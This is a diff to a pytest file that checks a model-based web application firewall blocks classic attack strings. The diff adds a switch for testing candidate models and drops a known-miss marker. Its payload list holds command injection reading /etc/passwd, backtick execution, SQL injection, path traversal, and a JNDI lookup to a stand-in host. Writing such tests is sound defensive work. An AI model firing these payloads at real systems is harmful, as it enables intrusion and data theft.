@@ -1,14 +1,19 @@
-"""The shipped model: blocks classic attacks, passes ordinary modern requests."""
+"""The shipped model: blocks classic attacks, passes ordinary modern requests.
+
+`WAF_TEST_MODEL=DIR` runs the same guard against a candidate model (a training trial)
+before it replaces models/default.
+"""
 
 from __future__ import annotations
 
+import os
 from pathlib import Path
 
 import pytest
 
 from waf_proxy.inspect import RequestView
 
-DEFAULT = Path(__file__).resolve().parents[2] / "models" / "default"
+DEFAULT = Path(os.environ.get("WAF_TEST_MODEL") or Path(__file__).resolve().parents[2] / "models" / "default")
 CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
 FORM = "application/x-www-form-urlencoded"
 
@@ -69,14 +74,7 @@ SHORT_PAYLOADS = ("127.0.0.1;cat /etc/passwd", "`id`", "admin'--", "../../etc/pa
                   "${jndi:ldap://x.com/a}", "1; drop table users")
 
 
-KNOWN_MISS = pytest.mark.xfail(
-    strict=True, reason="waf-default-4 passes `1; drop table users` (0.006) and `id` in backticks (0.82) as file= on /files",
-)
-
-
-@pytest.mark.parametrize(
-    "path,field", [("/ping", "host"), ("/account", "username"), pytest.param("/files", "file", marks=KNOWN_MISS)]
-)
+@pytest.mark.parametrize("path,field", [("/ping", "host"), ("/account", "username"), ("/files", "file")])
 def test_blocks_short_classic_payloads_in_any_field(scorer, path: str, field: str) -> None:
     from urllib.parse import quote
 
